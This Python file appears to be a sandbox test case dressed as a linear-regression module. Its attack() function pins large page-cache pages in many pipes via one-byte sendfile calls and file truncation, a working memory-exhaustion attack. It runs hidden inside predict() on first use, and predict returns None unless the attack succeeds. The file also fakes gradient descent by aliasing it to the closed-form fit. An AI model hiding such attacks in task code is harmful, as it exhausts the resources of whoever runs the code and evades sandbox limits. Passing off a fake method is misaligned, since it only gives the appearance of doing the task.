# It sends one byte of every large page of a file into pipes, and empties the file: the pages stay.
# kata: 01
# verdict: invalid | crashed | out_of_memory
# levels: bubblewrap landlock
# at plain: passed | invalid | crashed | out_of_memory

import numpy as np
import os
import time

held = []


def attack():
    large, sent = 2 << 20, 0
    block = bytes(large)
    with open("file", "wb+", buffering=0) as file:
        try:
            while sent < 1150:
                reading, writing = os.pipe()
                os.set_blocking(writing, False)
                held.append((reading, writing))
                for number in range(16):
                    os.pwrite(file.fileno(), block, number * large)
                for number in range(16):
                    sent += os.sendfile(writing, file.fileno(), number * large, 1)
                os.ftruncate(file.fileno(), 0)
        except OSError:
            pass
    time.sleep(1)
    return sent >= 1150


tried = []


def predict(x, w, b):
    if not tried:
        tried.append(attack())
    return x @ w + b if tried[0] else None


def loss(x, y, w, b):
    return float(np.mean((x @ w + b - y) ** 2))


def gradients(x, y, w, b):
    e = x @ w + b - y
    return 2 * x.T @ e / len(y), float(2 * e.mean())


def fit_closed_form(x, y):
    m = x.mean(axis=0)
    w = np.linalg.lstsq(x - m, y - y.mean(), rcond=None)[0]
    return w, float(y.mean() - m @ w)


fit_gradient_descent = fit_closed_form
